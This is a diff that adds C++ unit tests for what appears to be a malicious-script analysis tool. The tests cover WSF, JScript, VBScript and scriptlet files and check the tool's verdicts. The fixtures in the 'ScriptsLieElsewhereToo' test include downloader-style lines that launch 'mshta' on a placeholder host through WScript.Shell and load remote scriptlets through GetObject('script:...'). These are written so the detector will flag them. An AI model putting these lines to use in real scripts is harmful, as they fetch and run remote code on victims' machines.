@@ -98,6 +98,17 @@ INSTANTIATE_TEST_SUITE_P(
             "= 2\n"
             "End Function\n]]></script>\n<script language='JScript'>WScript.Echo(two() + 1);</script></job>",
             {"Echo: 3"}},
+        Row{"wsf_objects_and_empty_elements",
+            "a.wsf",
+            "<package><job><script language='JScript' src='{a}/none.js'/><object id='d' "
+            "progid='Scripting.Dictionary'/><script language='JScript'><![CDATA[d.Add('a', 1); "
+            "WScript.Echo(d.Count)]]></script></job></package>",
+            {"Echo: 1"}},
+        Row{"reads_itself",
+            "a.js",
+            "var f = new ActiveXObject('Scripting.FileSystemObject'); "
+            "WScript.Echo(f.OpenTextFile(WScript.ScriptFullName, 1).ReadAll().split('\\n')[1]);\n//specimen",
+            {"Echo: //specimen"}},
         Row{"hta",
             "a.hta",
             "<html><script language=VBScript>MsgBox "
@@ -251,6 +262,37 @@ TEST(ScriptFile, VerdictsOfFilesAndCommands) {
   };
   for (const auto& row : rows)
     EXPECT_EQ(intel::name(inspect(sites, row.file, row.text).verdict), row.verdict) << row.name;
+}
+
+TEST(ScriptFile, ScriptsLieElsewhereToo) {
+  const std::string runs = "new ActiveXObject('WScript.Shell').Run('mshta {a}/next');";
+  Sites sites(Sites::Pages{
+      {"/l.js", runs},
+      {"/s.sct", "<?xml version='1.0'?><scriptlet><script language='JScript'><![CDATA[" + runs + "]]></script></scriptlet>"},
+      {"/next", "x"}});
+  const struct {
+    const char* name;
+    const char* file;
+    const char* text;
+    const char* edge;
+  } rows[] = {
+      {"wsf", "a.wsf", "<job><script language='JScript' src='{a}/l.js'/></job>", "{a}/l.js"},
+      {"scriptlet", "a.vbs", "Set s = GetObject(\"script:{a}/s.sct\")", "{a}/s.sct"},
+      {"scriptlet_js", "a.js", "GetObject('script:{a}/s.sct');", "{a}/s.sct"},
+      {"object", "a.wsf",
+       "<job><object id='sh' progid='WScript.Shell'/><script language='JScript'>sh.Run('mshta {a}/next')</script></job>",
+       "{a}/next"},
+  };
+  for (const auto& row : rows) {
+    intel::VisitRecord visit = inspect(sites, row.file, row.text);
+    EXPECT_EQ(intel::name(visit.verdict), "malicious") << row.name;
+    bool asked = false;
+    for (const intel::VisitNode& node : visit.nodes) asked = asked || sites.named(node.url) == row.edge;
+    EXPECT_TRUE(asked) << row.name;
+    // What the script said of components is what it did: nothing asks one for its text.
+    for (const std::string& use : events_of(visit, "component"))
+      EXPECT_EQ(use.find("toSource"), std::string::npos) << use;
+  }
 }
 
 TEST(ScriptFile, PagesRunVbScriptInUrlsAndTimers) {
